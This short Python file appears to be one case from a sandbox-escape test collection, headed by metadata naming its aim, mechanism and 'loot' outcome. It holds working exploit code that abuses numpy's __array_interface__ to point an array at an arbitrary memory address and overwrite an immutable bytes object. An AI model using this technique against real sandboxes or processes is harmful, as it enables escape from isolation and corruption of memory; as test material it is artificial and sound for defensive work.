# aim: make an array out of any memory address
# mechanism: __array_interface__ of a class of the program's
# language: check
# reason: an array over a chosen address reads and writes the memory of the process
# jail: process
# plain: loot
# imports: numpy

import numpy

target = b"immutable bytes of the program"


class Window:
    __array_interface__ = {"version": 3, "shape": (9,), "typestr": "|u1", "data": (id(target) + 32, False)}


numpy.asarray(Window())[:] = list(b"different")
if target.startswith(b"different"):
    loot("mutated: memory was written by its address")
